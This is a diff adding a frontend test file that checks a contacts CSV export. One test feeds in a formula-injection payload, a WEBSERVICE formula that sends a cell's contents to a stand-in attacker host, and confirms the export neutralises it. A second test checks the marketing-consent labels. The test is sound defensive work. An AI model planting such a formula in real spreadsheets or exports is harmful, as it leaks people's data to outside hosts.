@@ -1,0 +1,99 @@
+import { screen, within } from '@testing-library/react';
+import { describe, expect, test, vi } from 'vitest';
+import { fetchClient, type Schemas } from '@/api/client';
+import { backend } from '@mocks/node';
+import { defaultNotice, seedIds } from '@mocks/store';
+import { accounts, loginAs, renderRoute } from '@tests/support/render';
+
+/** Switches exchange on for the owner's full card, asking for a phone and a company. */
+function exchangeOn() {
+  backend.store.profileById(seedIds.fullCard)!.exchange = {
+    enabled: true,
+    fields: ['phone', 'company'],
+    notice: defaultNotice,
+    noticeVersion: 'v1',
+    privacyUrl: '',
+  };
+}
+
+/** A visitor leaves a contact on the full card through the mock backend (no session). */
+async function leave(contact: Partial<Schemas['LeaveContactRequest']>) {
+  const { response } = await fetchClient.POST('/api/profile/{profileId}/contacts', {
+    params: { path: { profileId: seedIds.fullCard } },
+    body: {
+      name: 'Vera Visitor',
+      marketingConsent: false,
+      noticeVersion: 'v1',
+      source: 'card',
+      ...contact,
+    },
+  });
+  expect(response.status).toBe(201);
+}
+
+/** Opens Contacts as the owner and exports the CSV: its text, and the page's userEvent. */
+async function exportedCsv() {
+  const blobs: Blob[] = [];
+  Object.defineProperty(URL, 'createObjectURL', {
+    value: (b: Blob) => (blobs.push(b), 'blob:csv'),
+    configurable: true,
+  });
+  Object.defineProperty(URL, 'revokeObjectURL', { value: () => undefined, configurable: true });
+  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
+  await loginAs(accounts.owner.email, accounts.owner.password);
+  const { user } = renderRoute('/dashboard/contacts');
+  const list = await screen.findByRole('list', { name: 'Contacts' });
+  await within(list).findByText('Mallory');
+  await user.click(screen.getByRole('button', { name: 'Export CSV' }));
+  await vi.waitFor(() => expect(blobs).toHaveLength(1));
+  return { csv: await blobs[0]!.text(), user };
+}
+
+describe('the Contacts CSV export', () => {
+  test('no cell is a formula in a semicolon locale; the phone keeps its + as a tel: URI', async () => {
+    exchangeOn();
+    await leave({
+      name: 'Mallory',
+      phone: { code: 'IN', number: '9123456780' },
+      company: 'Acme;=WEBSERVICE("https://evil.example/?"&A1)',
+    });
+    const { csv } = await exportedCsv();
+    const row = csv.split('\r\n').find((line) => line.startsWith('Mallory,'));
+    expect(row).toMatch(
+      /^Mallory,,tel:\+919123456780,"Acme;'=WEBSERVICE\(""https:\/\/evil\.example\/\?""&A1\)",/,
+    );
+    // Split as Excel does in a semicolon locale (and on commas and TABs): no cell is a formula.
+    const cells = csv.split(/[,;\t\r\n]/);
+    expect(cells.filter((cell) => /^[ "]*[=+\-@]/.test(cell))).toEqual([]);
+  });
+
+  test('marketing consent is the visitor\'s word: "Unconfirmed" until the address is confirmed', async () => {
+    exchangeOn();
+    await leave({ name: 'Mallory', email: 'someone.else@example.com', marketingConsent: true });
+    const priya = backend.store.state.contacts.find((c) => c.name === 'Priya Patel')!;
+    priya.marketingConsentConfirmedAt = '2026-11-20T10:00:00.000Z';
+    const consent = (csv: string, name: string) =>
+      csv
+        .split('\r\n')
+        .find((line) => line.startsWith(`${name},`))
+        ?.split(',')
+        .at(-2);
+    const { csv, user } = await exportedCsv();
+    expect(csv.split('\r\n')[0]).toBe(
+      'Name,Email,Phone,Company,Job title,Note,Card,Consent,Received',
+    );
+    expect([
+      consent(csv, 'Mallory'),
+      consent(csv, 'Priya Patel'),
+      consent(csv, 'Sam Shah'),
+    ]).toEqual(['Unconfirmed', 'Confirmed', 'No']);
+    const list = screen.getByRole('list', { name: 'Contacts' });
+    const mallory = within(list)
+      .getAllByRole('listitem')
+      .find((item) => within(item).queryByText('Mallory'))!;
+    expect(mallory).toHaveTextContent('Marketing consent: Unconfirmed');
+    await user.click(within(mallory).getByRole('button', { name: 'Details' }));
+    const dialog = await screen.findByRole('dialog', { name: 'Mallory' });
+    expect(dialog.textContent).toMatch(/Marketing consentUnconfirmed: the visitor ticked the box/);
+  });
+});
